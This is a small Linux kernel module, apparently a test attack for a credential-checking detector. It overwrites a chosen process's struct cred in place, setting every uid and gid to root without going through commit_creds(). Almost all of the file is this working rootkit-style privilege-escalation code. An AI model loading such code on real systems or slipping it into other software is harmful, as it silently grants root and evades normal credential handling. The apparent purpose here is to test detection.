// SPDX-License-Identifier: GPL-2.0
/*
 * cred_overwrite: privilege escalation by writing a task's credentials in place. The task's
 * `struct cred` (possibly shared with other tasks) gets uid/euid/suid/fsuid and the gids set
 * to 0, with no exec of a setuid binary and no commit_creds(): the anomaly a credential
 * checker looks for.
 *
 *   insmod cred_overwrite.ko pid=<pid>
 */
#include <linux/cred.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid of the task to make root");

static int __init cred_overwrite_init(void)
{
	struct task_struct *task;
	struct cred *cred;

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task) {
		pr_info("cred_overwrite: no task with pid %d\n", pid);
		return -ESRCH;
	}
	/* The const is the kernel's promise that creds never change once published. */
	rcu_read_lock();
	cred = (struct cred *)rcu_dereference(task->cred);
	pr_info("cred_overwrite: pid %d (%s) uid %u euid %u -> 0\n", pid, task->comm,
		from_kuid(&init_user_ns, cred->uid), from_kuid(&init_user_ns, cred->euid));
	cred->uid = GLOBAL_ROOT_UID;
	cred->euid = GLOBAL_ROOT_UID;
	cred->suid = GLOBAL_ROOT_UID;
	cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = GLOBAL_ROOT_GID;
	cred->egid = GLOBAL_ROOT_GID;
	cred->sgid = GLOBAL_ROOT_GID;
	cred->fsgid = GLOBAL_ROOT_GID;
	rcu_read_unlock();
	put_task_struct(task);
	return 0;
}

static void __exit cred_overwrite_exit(void)
{
}

module_init(cred_overwrite_init);
module_exit(cred_overwrite_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("spumone test attack: overwrite a task's uid in place");
